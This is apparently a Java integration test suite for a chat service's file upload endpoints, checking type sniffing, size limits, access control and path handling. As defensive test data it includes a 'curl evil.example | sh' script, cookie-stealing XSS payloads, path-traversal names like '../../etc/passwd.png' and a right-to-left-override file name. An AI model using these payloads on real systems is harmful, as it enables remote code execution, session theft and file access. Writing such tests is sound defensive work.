package io.kefu.chat.upload;

import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import javax.imageio.ImageIO;

import io.kefu.chat.ChatApplication;
import io.kefu.chat.ChatItSupport;
import io.kefu.chat.conversation.MessageSending;
import io.kefu.chat.conversation.MessageView;
import io.kefu.chat.conversation.SendCommand;
import io.kefu.common.event.EventJson;
import io.kefu.common.security.KefuPrincipal;
import io.kefu.testsupport.KefuApps;
import io.kefu.testsupport.KefuIntegrationTest;
import io.kefu.testsupport.TestTokens;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.cloud.context.environment.EnvironmentChangeEvent;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.core.env.ConfigurableEnvironment;
import org.springframework.core.env.MapPropertySource;
import org.springframework.http.ContentDisposition;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import tools.jackson.databind.JsonNode;

import static org.assertj.core.api.Assertions.assertThat;

class UploadIT extends ChatItSupport {

    static final Path STORAGE = UPLOAD_STORAGE;

    private static final HttpClient HTTP = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();


    @LocalServerPort
    int port;

    @Autowired
    JdbcTemplate jdbc;

    @Autowired
    StoredFiles storedFiles;

    @Autowired
    MessageSending conversations;

    @Autowired
    ConfigurableApplicationContext context;

    // ---- the happy path ----

    @Test
    void aPngIsSniffedStoredUnderAGeneratedNameAndDownloadedByteForByte() throws Exception {
        Person customer = customer(UUID.randomUUID());
        byte[] png = png(Color.RED);
        // The part claims octet-stream: the type must come from the bytes, not from the client.
        Response up = upload(customer.token(), "客服 截图.png", "application/octet-stream", png, null);

        assertThat(up.status()).as(up.text()).isEqualTo(201);
        JsonNode body = up.json();
        UUID id = UUID.fromString(body.path("id").asString());
        assertThat(body.path("url").asString()).isEqualTo("/api/files/" + id);
        assertThat(up.header("location")).isEqualTo("/api/files/" + id);
        assertThat(body.path("originalName").asString()).isEqualTo("客服 截图.png");
        assertThat(body.path("size").asLong()).isEqualTo(png.length);
        assertThat(body.path("mimeType").asString()).isEqualTo("image/png");
        assertThat(body.path("fileType").asString()).isEqualTo("image");

        Map<String, Object> row = jdbc.queryForMap("select * from uploaded_file where id = ?", id);
        assertThat(row.get("tenant_id")).isEqualTo(customer.tenantId());
        assertThat(row.get("uploader_id")).isEqualTo(customer.id());
        assertThat(row.get("uploader_type")).isEqualTo("customer");
        assertThat(row.get("conversation_id")).isNull();
        assertThat(row.get("original_name")).isEqualTo("客服 截图.png");
        assertThat(row.get("file_name")).isEqualTo(id + ".png");
        assertThat((String) row.get("file_path")).matches("\\d{4}/\\d{2}/\\d{2}/" + id + "\\.png");
        assertThat(row.get("file_size")).isEqualTo((long) png.length);
        assertThat(row.get("mime_type")).isEqualTo("image/png");
        assertThat(row.get("file_type")).isEqualTo("image");
        assertThat(row.get("sha256")).isEqualTo(sha256(png));
        assertThat(row.get("uploaded_at")).isNotNull();

        Path onDisk = STORAGE.resolve((String) row.get("file_path"));
        assertThat(onDisk).exists();
        assertThat(Files.readAllBytes(onDisk)).isEqualTo(png);
        assertThat(tempFiles()).as("the staging copy was moved, not left behind").isEmpty();

        Response down = get(customer.token(), "/api/files/" + id, Map.of());
        assertThat(down.status()).isEqualTo(200);
        assertThat(down.body()).isEqualTo(png);
        assertThat(down.header("content-type")).isEqualTo("image/png");
        assertThat(down.headers().allValues("x-content-type-options")).containsExactly("nosniff");
        assertThat(down.header("etag")).isEqualTo("\"" + sha256(png) + "\"");
        assertThat(down.header("cache-control")).contains("private").contains("max-age=3600").doesNotContain("no-store");
        String disposition = down.header("content-disposition");
        assertThat(disposition).startsWith("inline").contains("filename*=UTF-8''");
        assertThat(ContentDisposition.parse(disposition).getFilename()).isEqualTo("客服 截图.png");

        Response again = get(customer.token(), "/api/files/" + id, Map.of("If-None-Match", down.header("etag")));
        assertThat(again.status()).as("an unchanged file is not sent twice").isEqualTo(304);
        assertThat(again.body()).isEmpty();

        Response part = get(customer.token(), "/api/files/" + id, Map.of("Range", "bytes=0-7"));
        assertThat(part.status()).as("voice and video players seek with ranges").isEqualTo(206);
        assertThat(part.body()).isEqualTo(java.util.Arrays.copyOf(png, 8));

        Response meta = get(customer.token(), "/api/files/" + id + "/meta", Map.of());
        assertThat(meta.status()).isEqualTo(200);
        assertThat(meta.json().path("id").asString()).isEqualTo(id.toString());
        assertThat(meta.json().path("originalName").asString()).isEqualTo("客服 截图.png");
        assertThat(meta.json().path("mimeType").asString()).isEqualTo("image/png");
        assertThat(meta.json().path("sha256").asString()).isEqualTo(sha256(png));
        assertThat(meta.json().path("uploaderId").asString()).isEqualTo(customer.id().toString());
        assertThat(meta.json().has("filePath")).as("the disk layout is not the client's business").isFalse();

        StoredFiles.StoredFile stored = storedFiles.find(id).orElseThrow();
        assertThat(stored.path()).isEqualTo(onDisk);
        assertThat(stored.mimeType()).isEqualTo("image/png");
        assertThat(stored.fileType()).isEqualTo("image");
        assertThat(stored.size()).isEqualTo(png.length);
        assertThat(stored.tenantId()).isEqualTo(customer.tenantId());
        assertThat(stored.uploaderId()).isEqualTo(customer.id());
        assertThat(storedFiles.find(UUID.randomUUID())).isEmpty();
    }

    @Test
    void voiceVideoAndDocumentsAreRecognisedFromTheirBytes() throws Exception {
        Person agent = agent(UUID.randomUUID());
        record Case(String name, byte[] bytes, String mimeType, String fileType, String extension, String disposition) {
        }
        List<Case> cases = List.of(
                new Case("voice.amr", latin1("#!AMR\n\u003c\u0000\u0000\u0000\u0000\u0000\u0000"), "audio/amr", "voice", ".amr", "inline"),
                new Case("voice", latin1("\u0002#!SILK_V3\u0000\u0000\u0000\u0000"), "audio/silk", "voice", ".silk", "inline"),
                new Case("song.mp3", latin1("ID3\u0003\u0000\u0000\u0000\u0000\u0000\u0000\u00ff\u00fb\u0090\u0064"), "audio/mpeg", "voice",
                        ".mp3", "inline"),
                new Case("memo.m4a", latin1("\u0000\u0000\u0000\u0018ftypM4A \u0000\u0000\u0000\u0000M4A isom\u0000\u0000\u0000\u0008free"),
                        "audio/mp4", "voice", ".m4a", "inline"),
                new Case("clip.mp4", latin1("\u0000\u0000\u0000\u0018ftypmp42\u0000\u0000\u0000\u0000mp42isom\u0000\u0000\u0000\u0008free"),
                        "video/mp4", "video", ".mp4", "inline"),
                new Case("manual.pdf", latin1("%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n1 0 obj\n<<>>\nendobj\n"), "application/pdf", "document",
                        ".pdf", "attachment"),
                new Case("report.docx", zip("[Content_Types].xml", "_rels/.rels", "word/document.xml"),
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "document", ".docx", "attachment"),
                new Case("sheet.xlsx", zip("[Content_Types].xml", "_rels/.rels", "xl/workbook.xml"),
                        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "document", ".xlsx", "attachment"),
                new Case("notes.txt", "第一行\nsecond line\n".getBytes(StandardCharsets.UTF_8), "text/plain", "document", ".txt",
                        "attachment"));
        for (Case c : cases) {
            Response up = upload(agent.token(), c.name(), "application/octet-stream", c.bytes(), null);
            assertThat(up.status()).as(c.name() + ": " + up.text()).isEqualTo(201);
            assertThat(up.json().path("mimeType").asString()).as(c.name()).isEqualTo(c.mimeType());
            assertThat(up.json().path("fileType").asString()).as(c.name()).isEqualTo(c.fileType());
            UUID id = UUID.fromString(up.json().path("id").asString());
            assertThat(jdbc.queryForObject("select file_name from uploaded_file where id = ?", String.class, id)).as(c.name())
                    .isEqualTo(id + c.extension());
            assertThat(jdbc.queryForObject("select uploader_type from uploaded_file where id = ?", String.class, id)).isEqualTo("staff");
            Response down = get(agent.token(), "/api/files/" + id, Map.of());
            assertThat(down.body()).as(c.name()).isEqualTo(c.bytes());
            assertThat(down.header("content-disposition")).as(c.name()).startsWith(c.disposition());
        }
    }

    // ---- refusals ----

    @Test
    void bytesThatAreNotAnAllowedTypeAreRefusedWhateverTheNameClaims() throws Exception {
        Person customer = customer(UUID.randomUUID());
        Set<Path> before = filesOnDisk();
        Map<byte[], String> disguised = Map.of(
                "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>".getBytes(), "text/html",
                latin1("MZ\u0090\u0000\u0003\u0000\u0000\u0000\u0004\u0000\u0000\u0000\u00ff\u00ff\u0000\u0000PE"), "application/x-msdownload",
                "#!/bin/sh\ncurl evil.example | sh\n".getBytes(), "application/x-sh",
                "<script>alert(1)</script>".getBytes(), "text/plain",
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>".getBytes(), "image/svg+xml",
                new byte[] {1, 2, 3, 4, 5, 0, (byte) 0x99, 7, 8, 9}, "application/octet-stream",
                zip("[Content_Types].xml", "word/document.xml"), "application/x-tika-ooxml");
        for (var entry : disguised.entrySet()) {
            Response up = upload(customer.token(), "photo.jpg", "image/jpeg", entry.getKey(), null);
            assertThat(up.status()).as(entry.getValue() + ": " + up.text()).isEqualTo(415);
            assertThat(up.json().path("code").asString()).isEqualTo("unsupported-media-type");
            assertThat(up.json().path("detail").asString()).contains(entry.getValue());
            assertThat(up.json().path("detectedType").asString()).isEqualTo(entry.getValue());
        }
        // A zip is a docx only when its entries say so, whatever its name.
        Response plainZip = upload(customer.token(), "report.docx", "application/octet-stream", zip("a.txt"), null);
        assertThat(plainZip.status()).as(plainZip.text()).isEqualTo(415);

        assertThat(rowsOf(customer)).isZero();
        assertThat(filesOnDisk()).as("nothing refused reaches the disk").isEqualTo(before);
    }

    @Test
    void anEmptyOrMissingFileIsABadRequest() throws Exception {
        Person customer = customer(UUID.randomUUID());
        Response empty = upload(customer.token(), "empty.png", "image/png", new byte[0], null);
        assertThat(empty.status()).as(empty.text()).isEqualTo(400);
        assertThat(empty.json().path("code").asString()).isEqualTo("validation-failed");
        assertThat(empty.json().path("detail").asString()).contains("empty");

        Response missing = send(customer.token(), multipartWithoutFile());
        assertThat(missing.status()).as(missing.text()).isEqualTo(400);
        assertThat(rowsOf(customer)).isZero();
    }

    /** Malformed multipart is the client's fault: no boundary, a truncated body, a body that is not multipart — 400, never 500. */
    @Test
    void malformedMultipartIsA400Problem() throws Exception {
        Person customer = customer(UUID.randomUUID());
        Multipart good = multipart("a.txt", "text/plain", "hello".getBytes(), null);
        byte[] truncated = java.util.Arrays.copyOf(good.body(), good.body().length / 2);
        for (String contentType : new String[] {"multipart/form-data", "multipart/form-data; boundary=" + good.boundary(),
                "multipart/form-data; boundary=", "multipart/form-data; boundary=nothere"}) {
            for (byte[] body : List.of(good.body(), truncated, "not multipart at all".getBytes(), new byte[0])) {
                HttpRequest request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + "/api/upload/file"))
                        .header("Authorization", "Bearer " + customer.token()).header("Content-Type", contentType)
                        .POST(HttpRequest.BodyPublishers.ofByteArray(body)).build();
                HttpResponse<String> response = HTTP.send(request, HttpResponse.BodyHandlers.ofString());
                if (contentType.endsWith(good.boundary()) && body == good.body()) {
                    assertThat(response.statusCode()).as(response.body()).isEqualTo(201);
                    continue;
                }
                assertThat(response.statusCode()).as("%s, %d bytes: %s", contentType, body.length, response.body()).isBetween(400, 499);
                assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(v -> assertThat(v).contains("problem+json"));
            }
        }
        assertThat(rowsOf(customer)).isEqualTo(1);
    }

    @Test
    void aFileOverTheLiveSizeLimitIs413() throws Exception {
        Person customer = customer(UUID.randomUUID());
        MapPropertySource small = new MapPropertySource("upload-limit-test", Map.of("kefu.chat.upload.max-size", "1KB"));
        ConfigurableEnvironment environment = context.getEnvironment();
        environment.getPropertySources().addFirst(small);
        context.publishEvent(new EnvironmentChangeEvent(context, Set.of("kefu.chat.upload.max-size")));
        try {
            Set<Path> before = filesOnDisk();
            Response big = upload(customer.token(), "big.txt", "text/plain", "x".repeat(1025).getBytes(), null);
            assertThat(big.status()).as(big.text()).isEqualTo(413);
            assertThat(big.json().path("code").asString()).isEqualTo("payload-too-large");
            assertThat(big.json().path("maxBytes").asLong()).isEqualTo(1024);
            assertThat(filesOnDisk()).isEqualTo(before);

            Response fits = upload(customer.token(), "small.txt", "text/plain", "x".repeat(1024).getBytes(), null);
            assertThat(fits.status()).as(fits.text()).isEqualTo(201);
        } finally {
            environment.getPropertySources().remove("upload-limit-test");
            context.publishEvent(new EnvironmentChangeEvent(context, Set.of("kefu.chat.upload.max-size")));
        }
        Response back = upload(customer.token(), "big.txt", "text/plain", "x".repeat(1025).getBytes(), null);
        assertThat(back.status()).as("the limit follows the environment back").isEqualTo(201);
    }

    @Test
    void aRequestOverTheServletMultipartLimitsIs413NotA500() throws Exception {
        ConfigurableApplicationContext app = KefuApps.start(ChatApplication.class, Map.of(
                "kefu.security.jwk-set-uri", TestTokens.jwkSetUri(),
                "kefu.chat.upload.storage-dir", STORAGE.toString(),
                "spring.servlet.multipart.max-file-size", "2KB",
                "spring.servlet.multipart.max-request-size", "8KB"));
        try {
            Person customer = customer(UUID.randomUUID());
            String base = "http://127.0.0.1:" + KefuApps.port(app);
            for (int size : new int[] {3 * 1024, 10 * 1024, 6 * 1024 * 1024}) { // over the file limit; over the request limit; big
                Response up = send(base, customer.token(), multipart("big.txt", "text/plain", "y".repeat(size).getBytes(), null));
                assertThat(up.status()).as(size + ": " + up.text()).isEqualTo(413);
                assertThat(up.json().path("code").asString()).isEqualTo("payload-too-large");
            }
            assertThat(rowsOf(customer)).isZero();
        } finally {
            app.close();
        }
    }

    @Test
    void aPathInTheNameNeverReachesTheDisk() throws Exception {
        Person customer = customer(UUID.randomUUID());
        byte[] png = png(Color.BLUE);
        for (String name : List.of("../../etc/passwd.png", "..\\..\\windows\\evil.png", "/etc/cron.d/x.png", "..")) {
            Response up = upload(customer.token(), name, "image/png", png, null);
            assertThat(up.status()).as(name + ": " + up.text()).isEqualTo(201);
            UUID id = UUID.fromString(up.json().path("id").asString());
            String original = up.json().path("originalName").asString();
            assertThat(original).doesNotContain("/").doesNotContain("\\").isNotEqualTo("..");
            Path stored = storedFiles.find(id).orElseThrow().path();
            assertThat(stored.normalize()).startsWith(STORAGE);
            assertThat(stored.getFileName().toString()).isEqualTo(id + ".png");
        }
        assertThat(STORAGE.resolve("../../etc/passwd.png").normalize()).doesNotExist();
        Response rlo = upload(customer.token(), "invoice\u202Egnp.exe", "image/png", png, null);
        assertThat(rlo.json().path("originalName").asString()).as("no right-to-left override disguising the name")
                .isEqualTo("invoicegnp.exe");
        Response passwd = upload(customer.token(), "../../etc/passwd.png", "image/png", png, null);
        assertThat(passwd.json().path("originalName").asString()).isEqualTo("passwd.png");
    }

    @Test
    void aRowThatCannotBeWrittenTakesItsFileWithIt() throws Exception {
        Person customer = customer(UUID.randomUUID());
        jdbc.execute("""
                create or replace function upload_it_refuse() returns trigger language plpgsql as $$
                begin
                  if new.original_name = 'fail-me.png' then raise exception 'refused by the test'; end if;
                  return new;
                end $$""");
        jdbc.execute("create trigger upload_it_refuse before insert on uploaded_file for each row execute function upload_it_refuse()");
        try {
            Set<Path> before = filesOnDisk();
            Response up = upload(customer.token(), "fail-me.png", "image/png", png(Color.GREEN), null);
            assertThat(up.status()).as(up.text()).isEqualTo(500);
            assertThat(up.json().path("code").asString()).isEqualTo("internal-error");
            assertThat(rowsOf(customer)).isZero();
            assertThat(filesOnDisk()).as("no file without its row").isEqualTo(before);
        } finally {
            jdbc.execute("drop trigger upload_it_refuse on uploaded_file");
            jdbc.execute("drop function upload_it_refuse()");
        }
    }

    // ---- who may read ----

    @Test
    void onlyTheUploaderAndSupervisorsOfTheTenantReadAFileOutsideAConversation() throws Exception {
        UUID tenant = UUID.randomUUID();
        Person customer = customer(tenant);
        Response up = upload(customer.token(), "me.png", "image/png", png(Color.ORANGE), null);
        UUID id = UUID.fromString(up.json().path("id").asString());

        for (Person stranger : List.of(customer(UUID.randomUUID()), customer(tenant), agent(tenant), supervisor(UUID.randomUUID()),
                admin(UUID.randomUUID()))) {
            Response down = get(stranger.token(), "/api/files/" + id, Map.of());
            assertThat(down.status()).isEqualTo(404);
            assertThat(down.json().path("code").asString()).isEqualTo("not-found");
            assertThat(get(stranger.token(), "/api/files/" + id + "/meta", Map.of()).status()).isEqualTo(404);
        }
        assertThat(get(customer(UUID.randomUUID()).token(), "/api/files/" + UUID.randomUUID(), Map.of()).status())
                .as("an unknown id looks the same as a forbidden one").isEqualTo(404);
        assertThat(get(supervisor(tenant).token(), "/api/files/" + id, Map.of()).status()).isEqualTo(200);
        assertThat(get(admin(tenant).token(), "/api/files/" + id + "/meta", Map.of()).status()).isEqualTo(200);
    }

    @Test
    void whoeverCanSeeTheConversationReadsItsFiles() throws Exception {
        UUID tenant = UUID.randomUUID();
        Person customer = customer(tenant);
        UUID conversationId = conversations.send(principal(customer), new SendCommand(null, "text", "hi", null, null, null, null))
                .conversationId();

        byte[] png = png(Color.MAGENTA);
        Response up = upload(customer.token(), "receipt.png", "image/png", png, conversationId);
        assertThat(up.status()).as(up.text()).isEqualTo(201);
        UUID id = UUID.fromString(up.json().path("id").asString());
        assertThat(jdbc.queryForObject("select conversation_id from uploaded_file where id = ?", UUID.class, id)).isEqualTo(conversationId);

        Response byAgent = get(agent(tenant).token(), "/api/files/" + id, Map.of());
        assertThat(byAgent.status()).as("an agent of the tenant sees the unassigned conversation").isEqualTo(200);
        assertThat(byAgent.body()).isEqualTo(png);
        assertThat(get(agent(UUID.randomUUID()).token(), "/api/files/" + id, Map.of()).status()).isEqualTo(404);
        assertThat(get(customer(tenant).token(), "/api/files/" + id, Map.of()).status()).isEqualTo(404);

        // Uploading into someone else's conversation is refused, and leaves nothing.
        Person other = customer(tenant);
        Set<Path> before = filesOnDisk();
        Response foreign = upload(other.token(), "x.png", "image/png", png, conversationId);
        assertThat(foreign.status()).as(foreign.text()).isEqualTo(404);
        assertThat(rowsOf(other)).isZero();
        assertThat(filesOnDisk()).isEqualTo(before);
    }

    @Test
    void aFileSentInAMessageBecomesReadableInThatConversation() throws Exception {
        UUID tenant = UUID.randomUUID();
        Person customer = customer(tenant);
        Person agent = agent(tenant);
        Response up = upload(customer.token(), "before.png", "image/png", png(Color.CYAN), null);
        String fileId = up.json().path("id").asString();
        assertThat(get(agent.token(), "/api/files/" + fileId, Map.of()).status()).isEqualTo(404);

        JsonNode extra = EventJson.mapper().readTree("{\"fileId\":\"" + fileId + "\"}");
        MessageView sent = conversations.send(principal(customer), new SendCommand(null, "image", "[image]", extra, null, null, null));

        assertThat(jdbc.queryForObject("select conversation_id from uploaded_file where id = ?", UUID.class, UUID.fromString(fileId)))
                .isEqualTo(sent.conversationId());
        assertThat(get(agent.token(), "/api/files/" + fileId, Map.of()).status()).isEqualTo(200);

        // Someone else's file id in a message links nothing.
        Person thief = customer(tenant);
        Response other = upload(customer.token(), "mine.png", "image/png", png(Color.PINK), null);
        String otherId = other.json().path("id").asString();
        conversations.send(principal(thief), new SendCommand(null, "image", "[image]",
                EventJson.mapper().readTree("{\"fileId\":\"" + otherId + "\"}"), null, null, null));
        assertThat(jdbc.queryForObject("select conversation_id from uploaded_file where id = ?", UUID.class, UUID.fromString(otherId)))
                .isNull();
        assertThat(get(thief.token(), "/api/files/" + otherId, Map.of()).status()).isEqualTo(404);
    }

    // ---- helpers ----

    record Response(int status, java.net.http.HttpHeaders headers, byte[] body) {

        @Nullable String header(String name) {
            return headers.firstValue(name).orElse(null);
        }

        String text() {
            return new String(body, StandardCharsets.UTF_8);
        }

        JsonNode json() {
            return EventJson.mapper().readTree(body);
        }
    }

    record Multipart(String boundary, byte[] body) {
    }

    private static KefuPrincipal principal(Person customer) {
        return new KefuPrincipal(customer.id(), customer.tenantId(), "customer", Set.of("customer"));
    }

    private Response upload(String token, String filename, String partType, byte[] bytes, @Nullable UUID conversationId)
            throws Exception {
        return send(token, multipart(filename, partType, bytes, conversationId));
    }

    private Response send(String token, Multipart multipart) throws Exception {
        return send("http://127.0.0.1:" + port, token, multipart);
    }

    private static Response send(String base, String token, Multipart multipart) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create(base + "/api/upload/file"))
                .header("Authorization", "Bearer " + token)
                .header("Content-Type", "multipart/form-data; boundary=" + multipart.boundary())
                .POST(HttpRequest.BodyPublishers.ofByteArray(multipart.body())).build();
        HttpResponse<byte[]> response = HTTP.send(request, HttpResponse.BodyHandlers.ofByteArray());
        return new Response(response.statusCode(), response.headers(), response.body());
    }

    private Response get(String token, String path, Map<String, String> headers) throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
                .header("Authorization", "Bearer " + token).GET();
        headers.forEach(request::header);
        HttpResponse<byte[]> response = HTTP.send(request.build(), HttpResponse.BodyHandlers.ofByteArray());
        return new Response(response.statusCode(), response.headers(), response.body());
    }

    /** What a browser sends: the file name raw in UTF-8, as the client typed it. */
    private static Multipart multipart(String filename, String partType, byte[] bytes, @Nullable UUID conversationId) {
        String boundary = "----kefu" + UUID.randomUUID();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        if (conversationId != null) {
            out.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"conversationId\"\r\n\r\n" + conversationId + "\r\n")
                    .getBytes(StandardCharsets.UTF_8));
        }
        out.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\""
                + filename.replace("\"", "%22") + "\"\r\nContent-Type: " + partType + "\r\n\r\n").getBytes(StandardCharsets.UTF_8));
        out.writeBytes(bytes);
        out.writeBytes(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
        return new Multipart(boundary, out.toByteArray());
    }

    private static Multipart multipartWithoutFile() {
        String boundary = "----kefu" + UUID.randomUUID();
        return new Multipart(boundary, ("--" + boundary + "\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nhello\r\n--" + boundary
                + "--\r\n").getBytes(StandardCharsets.UTF_8));
    }

    private int rowsOf(Person uploader) {
        return jdbc.queryForObject("select count(*) from uploaded_file where uploader_id = ?", Integer.class, uploader.id());
    }

    private static Set<Path> filesOnDisk() throws IOException {
        try (Stream<Path> files = Files.walk(STORAGE)) {
            return files.filter(Files::isRegularFile).collect(Collectors.toSet());
        }
    }

    private static Set<Path> tempFiles() throws IOException {
        return filesOnDisk().stream().filter(p -> STORAGE.relativize(p).startsWith(".tmp")).collect(Collectors.toSet());
    }

    private static byte[] png(Color color) throws IOException {
        BufferedImage image = new BufferedImage(8, 8, BufferedImage.TYPE_INT_RGB);
        for (int x = 0; x < 8; x++) {
            for (int y = 0; y < 8; y++) {
                image.setRGB(x, y, (x + y) % 2 == 0 ? color.getRGB() : Color.WHITE.getRGB());
            }
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ImageIO.write(image, "png", out);
        return out.toByteArray();
    }

    private static byte[] zip(String... entries) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (String entry : entries) {
                zip.putNextEntry(new ZipEntry(entry));
                zip.write("<?xml version=\"1.0\"?><x/>".getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        }
        return out.toByteArray();
    }

    private static byte[] latin1(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static String sha256(byte[] bytes) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
    }
}
